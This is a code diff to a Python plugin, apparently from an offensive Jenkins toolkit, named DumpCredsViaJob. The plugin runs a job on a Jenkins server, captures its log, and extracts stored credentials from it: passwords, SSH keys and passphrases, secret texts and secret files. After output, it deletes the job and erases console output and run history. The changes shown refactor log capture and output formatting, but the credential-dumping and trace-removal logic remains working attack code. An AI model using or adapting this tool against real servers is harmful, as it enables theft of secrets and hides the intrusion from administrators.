@@ -1,16 +1,17 @@
 import base64
+import io
 import os
 import random
 import re
 import string
-import time
+import sys
 import xml.sax.saxutils
 
 import requests.exceptions as req_exc
 
 from libs import jenkinslib, quik
 
-from .BasePlugin import BasePlugin, HijackStdOut
+from .BasePlugin import BasePlugin
 
 
 class NonCriticalException(Exception):
@@ -24,8 +25,6 @@ def xmlescape(data):
 class DumpCredsViaJob(BasePlugin):
     """Class for managing DumpCredsViaJob SubCommand"""
 
-    template_cache = None
-
     def __init__(self, args):
         super().__init__(args)
 
@@ -140,23 +139,16 @@ class DumpCredsViaJob(BasePlugin):
             Step 6: Start the job
             """
 
-            server.build_job(self.args.task_name)
+            queue_item = server.build_job(self.args.task_name)
 
             """
             Step 7: Wait for the Results
             """
 
-            while True:
-                time.sleep(3)
-                try:
-                    results = server.get_build_info(self.args.task_name, "lastBuild")
-                    break
-                except jenkinslib.JenkinsException:
-                    pass
-
-            while results["building"]:
-                time.sleep(3)
-                results = server.get_build_info(self.args.task_name, "lastBuild")
+            log = io.BytesIO()
+            results = server.track_build(
+                self.args.task_name, queue_item, sink=log
+            ).wait_for_completion()
 
             if results["result"] != "SUCCESS":
                 raise NonCriticalException(
@@ -169,9 +161,8 @@ class DumpCredsViaJob(BasePlugin):
             Step 8: Retrieve Credentials
             """
 
-            result = server.get_build_console_output(
-                "job/" + self.args.task_name + "/", "lastBuild"
-            )
+            # The log was already collected while waiting for the build to finish
+            result = log.getvalue().decode("utf8", errors="replace")
             state += 1
 
             """
@@ -208,10 +199,17 @@ class DumpCredsViaJob(BasePlugin):
                         username = raw_cred[2].split(":")[0].strip()
                         password = ":".join(raw_cred[2].split(":")[1:]).strip()
 
-                        print("Type:", cred_type)
-                        print("Description:", description)
-                        print("Username:", username)
-                        print("Password:", password)
+                        self.output(
+                            {
+                                "type": cred_type,
+                                "description": description,
+                                "username": username,
+                                "password": password,
+                            },
+                            "Type: {0}\nDescription: {1}\nUsername: {2}\nPassword: {3}".format(
+                                cred_type, description, username, password
+                            ),
+                        )
 
                     elif raw_cred[0].strip() == "SSHKEY":
                         cred_type = raw_cred[0].strip()
@@ -220,21 +218,30 @@ class DumpCredsViaJob(BasePlugin):
                         passphrase = raw_cred[3].strip()
                         key = "\n".join(raw_cred[4:]).strip()
 
-                        print("Type:", cred_type)
-                        print("Description:", description)
-                        print("Username:", username)
-                        print("Passphrase:", passphrase)
-                        print("Key:")
-                        print(key)
+                        self.output(
+                            {
+                                "type": cred_type,
+                                "description": description,
+                                "username": username,
+                                "passphrase": passphrase,
+                                "key": key,
+                            },
+                            "Type: {0}\nDescription: {1}\nUsername: {2}\nPassphrase: {3}\nKey:\n{4}".format(
+                                cred_type, description, username, passphrase, key
+                            ),
+                        )
 
                     elif raw_cred[0].strip() == "SECRETTEXT":
                         cred_type = raw_cred[0].strip()
                         description = raw_cred[1].strip()
                         text = raw_cred[2].strip()
 
-                        print("Type:", cred_type)
-                        print("Description:", description)
-                        print("Text:", text)
+                        self.output(
+                            {"type": cred_type, "description": description, "text": text},
+                            "Type: {0}\nDescription: {1}\nText: {2}".format(
+                                cred_type, description, text
+                            ),
+                        )
 
                     elif raw_cred[0].strip() == "SECRETFILE":
                         if (
@@ -246,15 +253,21 @@ class DumpCredsViaJob(BasePlugin):
                         description = raw_cred[1].strip()
                         file_content = "\n".join(raw_cred[2:]).strip()
 
-                        print("Type:", cred_type)
-                        print("Description:", description)
-                        print("Content:")
-                        print(file_content)
+                        self.output(
+                            {
+                                "type": cred_type,
+                                "description": description,
+                                "content": file_content,
+                            },
+                            "Type: {0}\nDescription: {1}\nContent:\n{2}".format(
+                                cred_type, description, file_content
+                            ),
+                        )
 
                 except Exception:
                     pass
 
-                if i < (len(result) - 1):
+                if i < (len(result) - 1) and self.sink is None:
                     print(
                         "-----------------------------------------------------------------------------"
                     )
@@ -285,8 +298,7 @@ class DumpCredsViaJob(BasePlugin):
             )
 
         except NonCriticalException as ex:
-            with HijackStdOut():
-                print(str(ex))
+            print(str(ex), file=sys.stderr)
 
         except Exception:
             self.logging.exception("")
@@ -304,10 +316,10 @@ class DumpCredsViaJob(BasePlugin):
                     req_exc.ConnectionError,
                     req_exc.HTTPError,
                 ):
-                    with HijackStdOut():
-                        print(
-                            "WARNING: Unable to delete the job, attempting secondary clean-up.  You should double check."
-                        )
+                    print(
+                        "WARNING: Unable to delete the job, attempting secondary clean-up.  You should double check.",
+                        file=sys.stderr,
+                    )
 
                 # We were unable to delete the the task, so we need to do secondary clean-up as best we can:
                 # First we delete all console output and run history:
@@ -437,17 +449,11 @@ class DumpCredsViaJobParser:
         if not args.task_name or any(
             x not in (string.ascii_letters + string.digits + "/") for x in args.task_name
         ):
-            with HijackStdOut():
-                self.parser.print_usage()
-                print(
-                    "\nError: Task Name must be alphanumeric string with optional subfolder pathing via forward slashes."
-                )
-                exit(1)
+            self.parser.fail(
+                "Task Name must be alphanumeric string with optional subfolder pathing via forward slashes."
+            )
 
         if (args.node and not args.node_type) or (args.node_type and not args.node):
-            with HijackStdOut():
-                self.parser.print_usage()
-                print("\nError: You must either specify both Node and Node Type or neither")
-                exit(1)
+            self.parser.fail("You must either specify both Node and Node Type or neither")
 
         return self._handle_authentication(args)